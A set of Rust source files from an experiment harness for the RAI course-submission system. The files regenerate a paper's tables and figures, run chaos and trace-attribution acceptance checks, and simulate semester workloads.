//! 5. poison messages are reported on `rai/tasks#dead`.
//!
//! The per-seed scenario triples are independent pure functions of the
//! seed, so they are fanned out across a `rai-exec` pool sized to the
//! host; reporting and assertions stay sequential.
//!
//! ```text
//! cargo run --release -p rai-bench --bin chaos_report [seed...]
//! ```

use rai_exec::Executor;
use rai_workload::chaos::{run_chaos, ChaosConfig};

fn main() {
    let seeds: Vec<u64> = {
        let args: Vec<u64> = std::env::args()
            .skip(1)
            .filter_map(|a| a.parse().ok())
            .collect();
        if args.is_empty() { vec![2016, 408, 0xC405] } else { args }
    };

    let exec = Executor::new(
        std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1),
    );
    let runs = exec.par_map(seeds.clone(), |seed: u64| {
        let config = ChaosConfig::acceptance(seed);
        rai_telemetry::log!(
            info,
            "chaos run: seed {seed}, {} teams x {} rounds, {} workers, plan {:?}",
            config.teams,
            config.rounds,
            config.workers,
            config.plan
        );
        let result = run_chaos(&config);
        let repeat = run_chaos(&config);
        let pooled = run_chaos(&config.clone().with_parallelism(4));
        (config, result, repeat, pooled)
    });

    for (config, result, repeat, pooled) in &runs {
        let seed = config.seed;

        rai_bench::header(&format!("chaos run — seed {seed}"));
        println!("  accepted submissions        {}", result.accepted.len());
        println!("  rejected at submit (visible){:>5}", result.rejected);
        println!("  terminal database rows      {}", result.terminal.len());
        println!(
            "  dead-lettered (poison)      {}  {:?}",
            result.dead_lettered.len(),
            result.dead_lettered
        );
        println!("  duplicated rows             {}", result.duplicated.len());
        println!("  lost submissions            {}", result.lost.len());
        println!("  instances died mid-run      {}", result.instances_failed);
        println!("  injected faults by kind:");
        for (kind, n) in &result.injected {
            println!("    {kind:<14} {n}");
        }
        println!(
            "  fingerprint                 {:#018x} (re-run: {:#018x})",
            result.fingerprint, repeat.fingerprint
        );

        // The acceptance criteria, hard-asserted.
        result.verify().expect("no-lost-submissions invariant");
        assert!(
            !result.dead_lettered.is_empty(),
            "chaos plan has poison jobs; some must dead-letter"
        );
        for id in &result.dead_lettered {
            assert!(
                config.plan.is_poison(*id),
                "only poison jobs should exhaust the attempt cap, got {id}"
            );
        }
        assert!(result.instances_failed >= 1, "the scheduled instance death fired");
        assert_eq!(
            result.fingerprint, repeat.fingerprint,
            "same-seed chaos runs must be byte-identical"
        );
        assert_eq!(result.accepted, repeat.accepted);
        assert_eq!(result.dead_lettered, repeat.dead_lettered);
        pooled.verify().expect("pooled run upholds the invariant");
        assert_eq!(
            result.fingerprint, pooled.fingerprint,
            "parallelism-4 chaos run must be byte-identical to the sequential reference"
        );

        let crash_rate = result
            .injected
            .iter()
            .filter(|(k, _)| k == "worker_crash" || k == "worker_stall")
            .map(|(_, n)| *n)
            .sum::<u64>() as f64
            / result.accepted.len() as f64;
        println!("  worker crash+stall per job  {crash_rate:.3}");
        println!("  seed {seed}: all invariants hold");
    }
    println!("\nchaos acceptance: {} seed(s) verified", seeds.len());
}
