//! Regenerates **Table I**: the qualitative feature comparison of
//! existing programming/submission systems against RAI.
//!
//! ```text
//! cargo run --release -p rai-bench --bin table1_features
//! ```

use rai_core::compare::{render_table1, table1, DIMENSIONS};

fn main() {
    rai_bench::header("Table I — existing programming and submission systems");
    print!("{}", render_table1());

    rai_bench::header("rationale (paper §III)");
    for row in table1() {
        println!("  {row}");
    }

    // Machine-checkable summary: RAI is the only full row.
    let full: Vec<&str> = table1()
        .iter()
        .filter(|r| DIMENSIONS.iter().enumerate().all(|(i, _)| r.features[i]))
        .map(|r| r.name)
        .collect();
    println!("\nsystems supporting all five dimensions: {full:?} (paper: [\"RAI\"])");
    assert_eq!(full, vec!["RAI"]);
}
