//! **Causal-trace attribution report**: where does the semester wall
//! go, and does the answer come out byte-identical at every exec pool
//! width — written to `BENCH_trace.json`.
//!
//! Write mode (default) runs the pinned semester (12 teams x 21 days)
//! and the chaos acceptance scenario at pool widths 1 and 4, and:
//!
//! 1. extracts every job's critical path from its span tree and prints
//!    the "where does the semester wall go" attribution table
//!    (per-component/per-stage share, totals, exact p50/p95/p99/p99.9
//!    from the deterministic log-bucketed histograms);
//! 2. asserts the *entire deterministic artifact* — attribution tables,
//!    queue-wait histogram encoding, end-to-end histogram encoding,
//!    backpressure sparklines, and the Chrome trace-event export — is
//!    byte-identical across widths (spans carry logical sim-times, so
//!    host scheduling must not leak into a single byte);
//! 3. writes the Perfetto-loadable Chrome trace JSON for a sample
//!    window of jobs to `target/trace_semester.json` and
//!    `target/trace_chaos.json`;
//! 4. reports the exec pool's steal/park/spawn/inline-run counters —
//!    host-scheduling facts, deliberately *outside* the artifact;
//! 5. commits the artifact fingerprints, end-to-end quantiles, and the
//!    p99 SLO to `BENCH_trace.json`.
//!
//! Check mode (`--check`, the CI trace job) re-runs both scenarios at
//! widths 1 and 4, re-asserts cross-width byte-identity, requires the
//! artifact fingerprints and end-to-end p99 to match the committed
//! values *exactly* (they are pure functions of the seed), and enforces
//! the p99 SLO ceiling. It writes nothing.
//!
//! ```text
//! cargo run --release -p rai-bench --bin trace_report [--check] [seed]
//! ```

use rai_telemetry::{attribute, names, render_chrome_trace, JobTrace};
use rai_workload::chaos::{run_chaos, ChaosConfig, ChaosResult};
use rai_workload::semester::{run_semester, SemesterConfig, SemesterResult};

/// Pinned scale, matching the perf baseline (`perf_report`).
const TEAMS: usize = 12;
const DAYS: u64 = 21;

/// Exec widths the byte-identity gate sweeps (ISSUE acceptance: the
/// attribution table must be byte-identical at widths 1 and 4).
const WIDTHS: [usize; 2] = [1, 4];

/// Jobs included in the Chrome trace export sample window. Bounds the
/// JSON size while still exercising every span shape.
const CHROME_SAMPLE_JOBS: usize = 256;

/// SLO ceiling on the semester's end-to-end p99 (sim-time µs). The
/// committed value must sit under this; a pipeline change that pushes
/// tail latency past it fails CI even if it is deterministic.
const E2E_P99_SLO_MICROS: u64 = 3_600_000_000; // one sim-hour

fn fnv1a(h: &mut u64, bytes: &[u8]) {
    for b in bytes {
        *h ^= u64::from(*b);
        *h = h.wrapping_mul(0x100_0000_01b3);
    }
}

/// Everything deterministic one (semester, chaos) pair produces. Two
/// runs at different pool widths must agree on every byte of this.
struct Artifact {
    semester_table: String,
    queue_encoding: String,
    e2e_encoding: String,
    depth_sparkline: String,
    in_flight_sparkline: String,
    chrome_semester: String,
    chaos_table: String,
    chrome_chaos: String,
    chaos_wasted_micros: u64,
    e2e_p50_micros: u64,
    e2e_p99_micros: u64,
    semester_jobs: u64,
    chaos_jobs: u64,
}

impl Artifact {
    fn fingerprint(&self) -> u64 {
        let mut fp: u64 = 0xcbf2_9ce4_8422_2325;
        for s in [
            &self.semester_table,
            &self.queue_encoding,
            &self.e2e_encoding,
            &self.depth_sparkline,
            &self.in_flight_sparkline,
            &self.chrome_semester,
            &self.chaos_table,
            &self.chrome_chaos,
        ] {
            fnv1a(&mut fp, s.as_bytes());
        }
        fnv1a(&mut fp, &self.chaos_wasted_micros.to_le_bytes());
        fp
    }

    fn assert_identical(&self, other: &Artifact, widths: (usize, usize)) {
        let (a, b) = widths;
        let pairs: [(&str, &str, &str); 8] = [
            ("semester attribution table", &self.semester_table, &other.semester_table),
            ("queue-wait histogram", &self.queue_encoding, &other.queue_encoding),
            ("end-to-end histogram", &self.e2e_encoding, &other.e2e_encoding),
            ("depth sparkline", &self.depth_sparkline, &other.depth_sparkline),
            ("in-flight sparkline", &self.in_flight_sparkline, &other.in_flight_sparkline),
            ("semester Chrome trace", &self.chrome_semester, &other.chrome_semester),
            ("chaos attribution table", &self.chaos_table, &other.chaos_table),
            ("chaos Chrome trace", &self.chrome_chaos, &other.chrome_chaos),
        ];
        for (what, left, right) in pairs {
            assert_eq!(left, right, "{what} differs between widths {a} and {b}");
        }
        assert_eq!(
            self.chaos_wasted_micros, other.chaos_wasted_micros,
            "chaos wasted-work total differs between widths {a} and {b}"
        );
    }
}

fn chrome_sample(traces: &[JobTrace]) -> String {
    render_chrome_trace(&traces[..traces.len().min(CHROME_SAMPLE_JOBS)])
}

/// Run both pinned scenarios at one pool width and distil the artifact.
fn run_at(width: usize, seed: u64) -> (Artifact, SemesterResult, ChaosResult) {
    let sem = run_semester(&SemesterConfig::scaled(TEAMS, DAYS, seed).with_parallelism(width));
    let attr = attribute(&sem.traces);
    let chaos = run_chaos(&ChaosConfig::acceptance(seed).with_parallelism(width));
    chaos.verify().expect("chaos audit");
    let chaos_attr = attribute(&chaos.traces);
    let e2e = attr.end_to_end.summary();
    let artifact = Artifact {
        semester_table: attr.table(),
        queue_encoding: sem.queue_wait.encode(),
        e2e_encoding: attr.end_to_end.encode(),
        depth_sparkline: sem.depth_series.sparkline(64),
        in_flight_sparkline: sem.in_flight_series.sparkline(64),
        chrome_semester: chrome_sample(&sem.traces),
        chaos_table: chaos_attr.table(),
        chrome_chaos: chrome_sample(&chaos.traces),
        chaos_wasted_micros: chaos_attr.wasted_micros(),
        e2e_p50_micros: e2e.p50_micros,
        e2e_p99_micros: e2e.p99_micros,
        semester_jobs: attr.jobs,
        chaos_jobs: chaos_attr.jobs,
    };
    (artifact, sem, chaos)
}

/// The report-only (host-scheduling-dependent) exec counters.
fn print_exec_counters(label: &str, metrics: &rai_telemetry::MetricsSnapshot) {
    println!("  {label} exec counters (host-scheduling facts, outside the artifact):");
    for name in [
        names::EXEC_SPAWNED_TOTAL,
        names::EXEC_INLINE_RUNS_TOTAL,
        names::EXEC_STOLEN_TOTAL,
        names::EXEC_PARKED_TOTAL,
        names::EXEC_INJECTED_TOTAL,
    ] {
        println!("    {name:<28} {}", metrics.counter_total(name));
    }
    println!(
        "    {:<28} {}",
        names::TRACES_DROPPED_LATE_TOTAL,
        metrics.counter_total(names::TRACES_DROPPED_LATE_TOTAL)
    );
}

fn render_json(seed: u64, artifact: &Artifact) -> String {
    let mut out = String::new();
    out.push_str("{\n");
    out.push_str("  \"schema\": \"rai-trace-bench/1\",\n");
    out.push_str(&format!("  \"seed\": {seed},\n"));
    out.push_str("  \"semester\": {\n");
    out.push_str(&format!("    \"teams\": {TEAMS},\n"));
    out.push_str(&format!("    \"days\": {DAYS},\n"));
    out.push_str(&format!("    \"jobs\": {},\n", artifact.semester_jobs));
    out.push_str(&format!(
        "    \"e2e_p50_micros\": {},\n",
        artifact.e2e_p50_micros
    ));
    out.push_str(&format!(
        "    \"e2e_p99_micros\": {},\n",
        artifact.e2e_p99_micros
    ));
    out.push_str(&format!(
        "    \"artifact_fingerprint\": \"{:#018x}\"\n",
        artifact.fingerprint()
    ));
    out.push_str("  },\n");
    out.push_str("  \"chaos\": {\n");
    out.push_str(&format!("    \"jobs\": {},\n", artifact.chaos_jobs));
    out.push_str(&format!(
        "    \"wasted_micros\": {}\n",
        artifact.chaos_wasted_micros
    ));
    out.push_str("  },\n");
    out.push_str("  \"slo\": {\n");
    out.push_str(&format!(
        "    \"e2e_p99_ceiling_micros\": {E2E_P99_SLO_MICROS}\n"
    ));
    out.push_str("  },\n");
    out.push_str(&format!(
        "  \"widths_checked\": [{}, {}],\n",
        WIDTHS[0], WIDTHS[1]
    ));
    out.push_str(
        "  \"note\": \"the artifact (attribution tables, histogram encodings, sparklines, Chrome trace sample) is a pure function of the seed; exec steal/park counters are host facts and excluded\"\n",
    );
    out.push_str("}\n");
    out
}

/// Pull `"key": value` out of the named top-level section of the
/// committed report (our own hand-rendered format; positional scan).
fn extract<'a>(json: &'a str, section: &str, key: &str) -> &'a str {
    let sec = json
        .find(&format!("\"{section}\""))
        .unwrap_or_else(|| panic!("BENCH_trace.json: no \"{section}\" section"));
    let rest = &json[sec..];
    let k = rest
        .find(&format!("\"{key}\""))
        .unwrap_or_else(|| panic!("BENCH_trace.json: no \"{key}\" in \"{section}\""));
    let after = &rest[k..];
    let colon = after.find(':').expect("key has a value");
    after[colon + 1..]
        .split([',', '\n', '}'])
        .next()
        .expect("value before delimiter")
        .trim()
        .trim_matches('"')
}

/// Run the cross-width sweep: the artifact must be byte-identical at
/// every width; per-width results ride along for the report-only
/// sections (exec counters differ by width — that is their point).
fn sweep(seed: u64) -> (Artifact, Vec<(usize, SemesterResult, ChaosResult)>) {
    let mut runs = Vec::new();
    let mut reference: Option<Artifact> = None;
    for &width in &WIDTHS {
        let (artifact, sem, chaos) = run_at(width, seed);
        if let Some(r) = &reference {
            r.assert_identical(&artifact, (WIDTHS[0], width));
            assert_eq!(
                r.fingerprint(),
                artifact.fingerprint(),
                "artifact fingerprints diverged across widths"
            );
        } else {
            reference = Some(artifact);
        }
        runs.push((width, sem, chaos));
    }
    (reference.expect("at least one width"), runs)
}

fn check(seed: u64) {
    let committed =
        std::fs::read_to_string("BENCH_trace.json").expect("read committed BENCH_trace.json");
    assert_eq!(
        extract(&committed, "schema", "schema"),
        "rai-trace-bench/1",
        "unexpected schema"
    );
    let committed_fp = extract(&committed, "semester", "artifact_fingerprint").to_string();
    let committed_p99: u64 = extract(&committed, "semester", "e2e_p99_micros")
        .parse()
        .expect("e2e_p99_micros is a number");
    let ceiling: u64 = extract(&committed, "slo", "e2e_p99_ceiling_micros")
        .parse()
        .expect("e2e_p99_ceiling_micros is a number");

    let (artifact, _) = sweep(seed);
    let fp = format!("{:#018x}", artifact.fingerprint());
    assert_eq!(
        fp, committed_fp,
        "trace artifact fingerprint drifted from the committed baseline \
         (regenerate BENCH_trace.json if the pipeline's latency model changed on purpose)"
    );
    // Sim-time latency is a pure function of the seed: the p99 must
    // reproduce exactly, and stay under the SLO ceiling.
    assert_eq!(
        artifact.e2e_p99_micros, committed_p99,
        "end-to-end p99 drifted from the committed baseline"
    );
    assert!(
        artifact.e2e_p99_micros <= ceiling,
        "end-to-end p99 {}µs above the SLO ceiling {}µs",
        artifact.e2e_p99_micros,
        ceiling
    );
    println!(
        "trace check: artifact {fp} byte-identical at widths {} and {}, e2e p99 {}µs == committed, under SLO {}µs",
        WIDTHS[0], WIDTHS[1], artifact.e2e_p99_micros, ceiling
    );
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let check_mode = args.iter().any(|a| a == "--check");
    let seed: u64 = args.iter().find_map(|a| a.parse().ok()).unwrap_or(2016);

    if check_mode {
        check(seed);
        return;
    }

    rai_bench::header(&format!(
        "causal-trace attribution — seed {seed}, widths {:?}",
        WIDTHS
    ));
    let (artifact, runs) = sweep(seed);
    let sem = &runs[0].1;

    rai_bench::header("where does the semester wall go (critical-path attribution)");
    print!("{}", artifact.semester_table);

    rai_bench::header("queue wait + backpressure");
    println!("  queue wait {}", sem.queue_wait.summary().render_secs());
    println!("  queue depth  {}", artifact.depth_sparkline);
    println!("  in flight    {}", artifact.in_flight_sparkline);

    rai_bench::header("chaos attribution (wasted work under faults)");
    print!("{}", artifact.chaos_table);
    println!(
        "  wasted (redone attempts + retry waits): {:.1}s across {} jobs",
        artifact.chaos_wasted_micros as f64 / 1e6,
        artifact.chaos_jobs
    );

    rai_bench::header("exec pool + trace-store health");
    for (width, sem_run, chaos_run) in &runs {
        print_exec_counters(&format!("width-{width} semester"), &sem_run.metrics);
        print_exec_counters(&format!("width-{width} chaos"), &chaos_run.metrics);
    }

    // The Perfetto-loadable exports (load via ui.perfetto.dev or
    // chrome://tracing).
    std::fs::create_dir_all("target").expect("create target dir");
    std::fs::write("target/trace_semester.json", &artifact.chrome_semester)
        .expect("write target/trace_semester.json");
    std::fs::write("target/trace_chaos.json", &artifact.chrome_chaos)
        .expect("write target/trace_chaos.json");
    println!(
        "\nwrote target/trace_semester.json + target/trace_chaos.json \
         ({} + {} bytes, first {CHROME_SAMPLE_JOBS} jobs each)",
        artifact.chrome_semester.len(),
        artifact.chrome_chaos.len()
    );

    assert!(
        artifact.e2e_p99_micros <= E2E_P99_SLO_MICROS,
        "end-to-end p99 {}µs above the SLO ceiling {E2E_P99_SLO_MICROS}µs",
        artifact.e2e_p99_micros
    );
    std::fs::write("BENCH_trace.json", render_json(seed, &artifact))
        .expect("write BENCH_trace.json");
    println!(
        "wrote BENCH_trace.json (artifact {:#018x}, e2e p99 {}µs under SLO {E2E_P99_SLO_MICROS}µs)",
        artifact.fingerprint(),
        artifact.e2e_p99_micros
    );
}
