//! Regenerates **Figure 2**: the histogram of the top-30 teams' final
//! competition runtimes in 0.1-second bins.
//!
//! The paper's reference points: "Most teams fell within the 1 second
//! runtime", "5 teams had a runtime between 0.4 and 0.5 seconds", and
//! "the slowest submission took 2 minutes to complete". All 58 team
//! finals run through a real deployment (client → broker → worker →
//! container → ranking DB).
//!
//! ```text
//! cargo run --release -p rai-bench --bin fig2_histogram
//! ```

use rai_workload::{run_competition, CompetitionConfig};

fn main() {
    let config = CompetitionConfig::default();
    rai_telemetry::log!(
        info,
        "running the final competition: {} teams ({} students), seed {}",
        config.teams,
        config.students,
        config.seed
    );
    let result = run_competition(&config);
    assert!(result.failures.is_empty(), "failed finals: {:?}", result.failures);

    rai_bench::header("Figure 2 — top-30 final runtimes, 0.1 s bins");
    print!("{}", result.histogram.ascii(48));

    rai_bench::header("leaderboard (anonymized view omitted — instructor view)");
    for (i, (team, secs)) in result.standings.iter().enumerate().take(10) {
        println!("  #{:<3} {:<10} {:>8.3} s", i + 1, team, secs);
    }
    println!("  …");
    let (slowest_team, slowest) = result.standings.last().expect("58 teams ranked");
    println!("  #{:<3} {:<10} {:>8.3} s", result.standings.len(), slowest_team, slowest);

    rai_bench::header("paper vs measured");
    let under_1s = result.standings.iter().take(30).filter(|(_, s)| *s < 1.0).count();
    let bin_04_05 = result.histogram.bin(4);
    println!("  top-30 under 1 s      paper: 'most'      measured: {under_1s}/30");
    println!("  teams in [0.4, 0.5) s paper: 5           measured: {bin_04_05}");
    println!("  slowest submission    paper: ~2 min      measured: {slowest:.1} s");
    assert!(under_1s >= 18);
    assert!((100.0..140.0).contains(slowest));

    // The same top-30 population through the deterministic log-bucketed
    // latency histogram: the migrated figures must agree with the
    // fixed-bin histogram above for the reference seed.
    rai_bench::header("top-30 runtimes (log-bucketed latency histogram)");
    let summary = result.runtimes.summary();
    println!("  {}", summary.render_secs());
    assert_eq!(summary.count, 30, "one sample per top-30 team");
    let log_under_1s = result.runtimes.count_le_micros(999_999);
    assert_eq!(
        log_under_1s, under_1s as u64,
        "log-histogram under-1s count must match the exact standings count"
    );
    let log_bin_04_05 =
        result.runtimes.count_le_micros(499_999) - result.runtimes.count_le_micros(399_999);
    assert_eq!(
        log_bin_04_05,
        bin_04_05,
        "log-histogram [0.4, 0.5) count must match the 0.1 s-bin histogram"
    );
    // The straggler is outside the top 30, so the top-30 max stays in
    // the sub-2.5 s cluster; quantiles never exceed the observed max.
    assert!(summary.p999_micros <= summary.max_micros);
    assert!(summary.max_micros < 2_500_000);
}
