//! Regenerates the **§VII "Resource Usage" narrative**: total
//! submissions, storage footprint, fleet phases and cost for the full
//! semester.
//!
//! Absolute storage bytes cannot match the paper (synthetic projects
//! are a few KiB where real student trees averaged ~2.5 MB), so the
//! report prints both the measured bytes and the extrapolation at the
//! paper's mean submission size — the *shape* (uploads dominate,
//! growth tracks the burst timeline) is the reproduction target.
//!
//! ```text
//! cargo run --release -p rai-bench --bin semester_report
//! ```

use rai_cluster::PhaseSchedule;
use rai_workload::semester::run_semester;
use rai_workload::SemesterConfig;

fn main() {
    let config = SemesterConfig::paper();
    rai_telemetry::log!(
        info,
        "simulating the paper semester ({} teams, {} days)",
        config.teams,
        config.duration_days
    );
    let result = run_semester(&config);

    rai_bench::header("provisioning phases (paper §VII)");
    for phase in &PhaseSchedule::paper_semester().phases {
        println!(
            "  from day {:>2}: {:>2}x {} ({}), {} job(s) in flight each — {}",
            phase.starts_at.as_millis() / 86_400_000,
            phase.fleet,
            phase.itype.name,
            phase.itype.gpu_model,
            phase.jobs_per_worker,
            phase.label
        );
    }

    rai_bench::header("semester totals — paper vs measured");
    println!("  students                paper: 176        configured: {}", config.students);
    println!("  teams                   paper: 58         configured: {}", config.teams);
    println!(
        "  total submissions       paper: >40,000    measured: {}",
        result.total_submissions
    );
    println!(
        "  last-2-weeks submissions paper: 30,782    measured: {}",
        result.window_submissions
    );
    println!("  failed submissions                         measured: {}", result.failures);

    let uploaded_gb = result.store.bytes_uploaded as f64 / 1e9;
    let mean_real_submission_mb = 2.5; // 100 GB / ~40k submissions
    let extrapolated_gb =
        result.total_submissions as f64 * mean_real_submission_mb / 1024.0;
    println!(
        "  bytes uploaded          paper: ~100 GB    measured: {uploaded_gb:.3} GB synthetic \
         (≈{extrapolated_gb:.0} GB at the paper's ~2.5 MB/submission)"
    );
    println!(
        "  store operations: {} puts / {} gets, {} objects resident",
        result.store.puts, result.store.gets, result.store.objects
    );
    let log_mb = result.log_bytes as f64 / 1e6;
    // Real program logs are far chattier than the simulated ~20 lines
    // per job; the paper's 25 GB / 40k jobs ≈ 640 KB per submission.
    let log_extrapolated_gb = result.total_submissions as f64 * 0.64 / 1024.0;
    println!(
        "  log traffic             paper: ~25 GB     measured: {log_mb:.1} MB synthetic \
         (≈{log_extrapolated_gb:.0} GB at the paper's ~640 KB/job)"
    );

    rai_bench::header("fleet cost");
    println!(
        "  instance-hour billing over {} days: ${:.2}",
        config.duration_days,
        result.cost_cents as f64 / 100.0
    );
    println!(
        "  queue wait p50/p90/p99: {:.1}s / {:.1}s / {:.1}s",
        result.queue_wait_secs.0, result.queue_wait_secs.1, result.queue_wait_secs.2
    );
    println!("  queue wait {}", result.queue_wait.summary().render_secs());
    // The three-quantile line above is *derived from* the log-bucketed
    // histogram; recomputing must reproduce the same figures exactly.
    assert_eq!(
        result.queue_wait.count(),
        result.total_submissions,
        "every accepted job waited in queue exactly once"
    );
    for (q, want) in [
        (0.50, result.queue_wait_secs.0),
        (0.90, result.queue_wait_secs.1),
        (0.99, result.queue_wait_secs.2),
    ] {
        let got = result.queue_wait.quantile_micros(q) as f64 / 1e6;
        assert_eq!(got.to_bits(), want.to_bits(), "q{q} drifted: {got} vs {want}");
    }

    rai_bench::header("broker backpressure (hourly maxima)");
    println!("  queue depth  {}", result.depth_series.sparkline(64));
    println!("  in flight    {}", result.in_flight_series.sparkline(64));
    if let Some((bucket, depth)) = result.depth_series.peak_bucket() {
        println!(
            "  peak queue depth {} at day {:.1}",
            depth,
            result.depth_series.bucket_start(bucket).as_millis() as f64 / 86_400_000.0
        );
    }

    rai_bench::header("final leaderboard (top 10)");
    for (i, (team, secs)) in result.final_standings.iter().take(10).enumerate() {
        println!("  #{:<3} {:<10} {:>8.3} s", i + 1, team, secs);
    }

    rai_bench::header("telemetry (Prometheus exposition excerpt)");
    let exposition = rai_telemetry::render_prometheus(&result.metrics);
    for line in exposition.lines().filter(|l| {
        l.starts_with("rai_jobs_total")
            || l.starts_with("rai_broker_")
            || l.starts_with("rai_store_bytes_")
            || l.starts_with("rai_db_")
            || l.contains("_count")
    }) {
        println!("  {line}");
    }

    rai_bench::header("failure & recovery counters");
    for name in [
        rai_telemetry::names::RETRIES_TOTAL,
        rai_telemetry::names::REDELIVERIES_TOTAL,
        rai_telemetry::names::DEAD_LETTERED_TOTAL,
        rai_telemetry::names::FAULTS_INJECTED_TOTAL,
        rai_telemetry::names::WORKER_CRASHES_TOTAL,
        rai_telemetry::names::JOBS_MALFORMED_TOTAL,
    ] {
        println!("  {name:<28} {}", result.metrics.counter_total(name));
    }
    let jobs_counted = result.metrics.counter_total(rai_telemetry::names::JOBS_TOTAL);
    println!(
        "
  registry: {} counters / {} gauges / {} histograms; rai_jobs_total = {}",
        result.metrics.counters.len(),
        result.metrics.gauges.len(),
        result.metrics.histograms.len(),
        jobs_counted
    );

    assert!(result.total_submissions > 30_000);
    assert_eq!(jobs_counted, result.total_submissions);
    assert_eq!(result.final_standings.len(), config.teams);
}
