//! Regenerates **Figure 3**: the RAI client download matrix — ten
//! OS/architecture targets, each with a stable (`master`) and a
//! development (`devel`) link, continuously rebuilt and uploaded.
//!
//! ```text
//! cargo run --release -p rai-bench --bin fig3_delivery
//! ```

use rai_core::delivery::{commit_from_bug_report, Channel, DeliveryPipeline, TARGETS};
use rai_sim::VirtualClock;
use rai_store::ObjectStore;

fn main() {
    let store = ObjectStore::new(VirtualClock::new());
    let pipeline = DeliveryPipeline::new(store.clone(), "rai-downloads");

    // The CI builds both branches on every merge.
    let stable = pipeline
        .release(Channel::Stable, "9f2c41a", "2016-11-02")
        .expect("release uploads");
    let devel = pipeline
        .release(Channel::Development, "e77b0c3", "2016-11-20")
        .expect("release uploads");

    rai_bench::header("Figure 3 — RAI client download links");
    print!("{}", DeliveryPipeline::render_figure3(&stable, &devel));

    rai_bench::header("embedded version info (bug-report triage)");
    let report = devel[1].version_string();
    println!("  student pastes: {report}");
    println!("  staff extracts: commit {}", commit_from_bug_report(&report).expect("commit embedded"));

    rai_bench::header("paper vs measured");
    println!("  targets         paper: 10 (6 Linux, 2 OSX, 2 Windows)   measured: {}", TARGETS.len());
    println!("  channels        paper: stable + development             measured: 2");
    println!(
        "  artifacts on S3 paper: continuously updated               measured: {} objects",
        store.usage().objects
    );
    assert_eq!(TARGETS.len(), 10);
    assert_eq!(store.usage().objects, 20);
}
