//! # rai-bench — the experiment harness
//!
//! One binary per paper table/figure (see `src/bin/`), plus criterion
//! micro-benchmarks for every substrate (see `benches/`). The
//! `EXPERIMENTS.md` at the repository root indexes paper-vs-measured
//! for each.
//!
//! | Target | Paper artifact |
//! |---|---|
//! | `table1_features`      | Table I feature comparison |
//! | `fig2_histogram`       | Fig. 2 top-30 runtime histogram |
//! | `fig3_delivery`        | Fig. 3 client download matrix |
//! | `fig4_timeline`        | Fig. 4 submissions/hour, last 2 weeks |
//! | `listing3_keys`        | Listing 3 key-delivery e-mails |
//! | `semester_report`      | §VII resource-usage numbers |
//! | `ablation_concurrency` | §V single-job timing-accuracy claim |
//! | `ablation_elasticity`  | §IV/§VII elasticity claim |
//! | `ablation_log_gc`      | ephemeral log-topic GC design choice |
//! | `chaos_report`         | §IV crash-requeue guarantee, audited under chaos |
//! | `store_report`         | storage dedup baseline (`BENCH_store.json`, DESIGN.md §10) |
//! | `perf_report`          | end-to-end perf baseline (`BENCH_perf.json`, DESIGN.md §11) |

use rai_auth::{sign_request, Credentials};
use rai_core::client::ProjectDir;
use rai_core::protocol::{JobKind, JobRequest};
use rai_core::spec::FINAL_SUBMISSION_YML;
use rai_store::ObjectStore;

/// Print a section header for bench-binary output.
pub fn header(title: &str) {
    println!("\n=== {title} ===");
}

/// Build a ready-to-process final-submission job request: uploads the
/// project and returns the signed request. Shared by the ablation
/// binaries, which drive `Worker::process*` directly.
pub fn staged_final_request(
    store: &ObjectStore,
    creds: &Credentials,
    team: &str,
    project: &ProjectDir,
    job_id: u64,
) -> JobRequest {
    let bundle = rai_archive::pack(&project.tree);
    let key = format!("{team}/{job_id:08x}.tar.bz2");
    store
        .put(rai_core::client::UPLOAD_BUCKET, &key, bundle.bytes, [])
        .expect("upload bucket exists");
    let mut request = JobRequest {
        job_id,
        access_key: creds.access_key.clone(),
        signature: String::new(),
        team: team.to_string(),
        upload_bucket: rai_core::client::UPLOAD_BUCKET.to_string(),
        upload_key: key,
        build_yml: FINAL_SUBMISSION_YML.to_string(),
        kind: JobKind::Submit,
    };
    request.signature = sign_request(&creds.secret_key, &creds.access_key, &request.signing_payload());
    request
}

#[cfg(test)]
mod tests {
    use super::*;
    use rai_auth::KeyGenerator;
    use rai_sim::VirtualClock;
    use rai_store::LifecycleRule;

    #[test]
    fn staged_request_round_trips() {
        let store = ObjectStore::new(VirtualClock::new());
        store
            .create_bucket(rai_core::client::UPLOAD_BUCKET, LifecycleRule::Keep)
            .unwrap();
        let creds = KeyGenerator::from_seed(1).generate("t");
        let project = ProjectDir::sample_cuda_project().with_final_artifacts();
        let req = staged_final_request(&store, &creds, "t", &project, 7);
        assert_eq!(req.kind, JobKind::Submit);
        assert!(store.get(rai_core::client::UPLOAD_BUCKET, &req.upload_key).is_ok());
        let decoded = JobRequest::decode(&req.encode()).unwrap();
        assert_eq!(decoded, req);
    }
}
