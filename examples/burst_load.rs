//! The deadline-burst scenario (paper §VII): a scaled-down class works
//! toward a deadline; the simulation shows the circadian/burst shape of
//! Fig. 4 and what the elastic fleet does to queue waits and cost.
//!
//! ```text
//! cargo run --release --example burst_load
//! ```

use rai::workload::semester::run_semester;
use rai::workload::SemesterConfig;

fn main() {
    // 12 teams over two weeks — small enough to run in seconds, large
    // enough for the burst to show.
    let config = SemesterConfig::scaled(12, 14, 7);
    println!(
        "simulating {} teams over {} days through the full pipeline...",
        config.teams, config.duration_days
    );
    let result = run_semester(&config);

    println!("\nsubmissions per hour (whole project):");
    println!("  {}", result.full_timeline.sparkline(100));
    println!("\nper-day totals:");
    for (day, chunk) in result.full_timeline.counts().chunks(24).enumerate() {
        let total: u64 = chunk.iter().sum();
        println!("  day {:>2}: {:>5} {}", day + 1, total, "#".repeat((total / 10) as usize));
    }

    println!("\ntotals:");
    println!("  submissions: {} ({} failed)", result.total_submissions, result.failures);
    println!(
        "  queue waits p50/p90/p99: {:.1}s / {:.1}s / {:.1}s",
        result.queue_wait_secs.0, result.queue_wait_secs.1, result.queue_wait_secs.2
    );
    println!(
        "  file server: {} uploads, {:.1} MB",
        result.store.puts,
        result.store.bytes_uploaded as f64 / 1e6
    );
    println!("  fleet cost: ${:.2}", result.cost_cents as f64 / 100.0);

    println!("\nfinal standings:");
    for (i, (team, secs)) in result.final_standings.iter().enumerate() {
        println!("  #{:<2} {:<10} {:>8.3}s", i + 1, team, secs);
    }
}
