//! The instructor-side workflow (paper §VI): generate and mail keys
//! from the roster, collect final submissions, re-run them for stable
//! timings, check required files, and produce grade reports.
//!
//! ```text
//! cargo run --release --example instructor_tools
//! ```

use rai::core::client::ProjectDir;
use rai::core::grading::Grader;
use rai::core::interactive::SessionConfig;
use rai::core::system::{RaiSystem, SystemConfig};
